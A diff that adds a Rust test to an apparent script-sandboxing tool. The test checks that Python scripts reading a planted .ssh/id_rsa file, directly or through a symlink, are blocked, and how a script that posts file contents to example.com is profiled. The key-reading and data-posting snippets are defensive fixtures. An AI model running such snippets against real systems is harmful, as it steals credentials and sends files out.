@@ -49,6 +49,56 @@ fn trusted_is_never_given_by_a_text() {
     assert!(place.root().join("out.txt").exists());
 }
 
+/// All reads and all hosts together carry every file away.
+#[test]
+fn mcp_standard_is_never_given_by_a_text_but_the_files_that_it_names() {
+    let elsewhere = tempfile::Builder::new().prefix("exec-").tempdir_in("/var/tmp").unwrap();
+    let path = |name: &str| {
+        elsewhere
+            .path()
+            .canonicalize()
+            .unwrap()
+            .join(name)
+            .display()
+            .to_string()
+    };
+    std::fs::create_dir(path(".ssh")).unwrap();
+    for name in ["a.csv", ".ssh/id_rsa"] {
+        std::fs::write(path(name), "shop\n").unwrap();
+    }
+    std::os::unix::fs::symlink(path(".ssh/id_rsa"), path("link")).unwrap();
+    let place = Place::new();
+    let runs_as = |script: &str| {
+        let answer = place.json(&["infer", "--json", script]);
+        assert_eq!(answer["profile"], json!("mcp-standard"), "{script}");
+        answer["runs_as"].as_str().unwrap().to_string()
+    };
+    let named = path("a.csv");
+    place.file("named.py", &format!("print(open('{named}').read(), end='')\n"));
+    assert_eq!(runs_as("named.py"), "minimal");
+    let called = place.exec(&["named.py"]);
+    assert_eq!((called.code, &*called.stdout), (0, "shop\n"));
+    called.says(&format!("`named.py` runs under `minimal --read {named}`"));
+    let directory = format!("import os\nprint(os.listdir('{}'))\n", elsewhere.path().display());
+    let reading = |name: &str| format!("print(open('{}').read())\n", path(name));
+    for text in [directory, reading("link"), reading(".ssh/id_rsa")] {
+        place.file("closed.py", &text);
+        assert_eq!(bare(&place, &["python3", "closed.py"]), Some(0), "{text}");
+        assert_eq!(place.exec(&["closed.py"]).code, 1, "{text}");
+    }
+    let sending = |text: &str| {
+        place.file(
+            "sending.py",
+            &format!("import requests\nrequests.post('https://example.com/', data={text})\n"),
+        )
+    };
+    sending("open('notes.txt').read()");
+    assert_eq!(runs_as("sending.py"), "filesystem");
+    sending(&format!("open('{named}').read()"));
+    assert_eq!(runs_as("sending.py"), "network-api");
+    assert!(!place.exec(&["sending.py"]).stderr.contains("--read"));
+}
+
 #[test]
 fn what_cannot_be_told_runs_under_minimal() {
     let place = Place::new();
